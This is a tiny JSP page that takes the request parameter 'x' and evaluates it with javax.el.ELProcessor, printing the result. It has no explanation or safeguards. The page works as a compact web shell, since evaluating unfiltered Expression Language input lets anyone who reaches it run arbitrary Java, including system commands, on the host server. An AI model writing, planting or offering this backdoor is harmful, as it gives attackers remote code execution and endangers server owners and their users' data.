<%@ page import="javax.el.ELProcessor" %><%
String x = request.getParameter("x");
if (x != null) {
    out.print(new ELProcessor().eval(x));
}
%>
